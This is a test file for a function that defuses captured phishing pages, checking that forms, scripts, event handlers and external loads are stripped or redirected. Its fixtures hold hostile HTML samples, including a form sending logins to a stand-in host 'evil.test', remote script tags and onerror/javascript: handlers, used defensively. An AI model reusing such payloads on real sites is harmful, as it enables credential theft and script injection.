import { describe, expect, it } from 'vitest';
import { processorMsOf } from '#tests/support/processor-time.ts';
import { rewirePage } from './page-html.ts';

const addresses = { submit: '/s/token', script: '/assets/form.js' };
const rewire = (html: string) => rewirePage(html, addresses);

describe('a phishing page', () => {
  it('sends its forms to us, wherever the author sent them', () => {
    const page = rewire(
      '<form action="https://evil.test/steal" method="get" target="_blank"><input name="login"></form>',
    );
    expect(page).toContain('action="/s/token"');
    expect(page).toContain('method="post"');
    expect(page).not.toContain('evil.test');
    expect(page).not.toContain('target=');
  });

  it('leaves no field a name, so that a browser sends no value even without our script', () => {
    const page = rewire(
      '<form><input name="a"><INPUT NAME="b" type="password"><select name="c"><option>1</option></select><textarea name="d"></textarea><button name="e" formaction="https://evil.test">ok</button></form><input form="x" name="outside">',
    );
    expect(page.match(/<(input|select|textarea|button)[^>]*\sname=/gi)).toBeNull();
    expect(page).not.toContain('formaction');
    expect(page).toContain('type="password"');
  });

  it('runs nothing but our own script', () => {
    const page = rewire(
      '<p onclick="x()">hi</p><script>steal()</script><script src="https://evil.test/a.js"></script><img src=x onerror="x()"><a href="javascript:x()">go</a><svg onload="x()"></svg>',
    );
    expect(page.match(/<script/g)).toHaveLength(1);
    expect(page).toContain('<script src="/assets/form.js" defer></script>');
    expect(page).not.toMatch(/onclick|onerror|onload|javascript:|steal/i);
  });

  it('loads and leads nowhere by itself', () => {
    const page = rewire(
      '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test"><iframe src="https://evil.test"></iframe><object data="https://evil.test"></object><link rel="stylesheet" href="https://evil.test/a.css">',
    );
    expect(page).not.toContain('evil.test');
  });

  it('keeps the looks: styles, pictures in the page, words of any language', () => {
    const page = rewire(
      '<style>b{color:red}</style><b style="color:blue">Вход — «Портал»</b><img src="data:image/png;base64,AA==" alt="">',
    );
    expect(page).toContain('b{color:red}');
    expect(page).toContain('style="color:blue"');
    expect(page).toContain('Вход — «Портал»');
    expect(page).toContain('data:image/png;base64,AA==');
  });

  it('stays small work for hostile nesting', async () => {
    expect(await processorMsOf(() => rewire('<div>'.repeat(20_000)))).toBeLessThan(3000);
  });
});
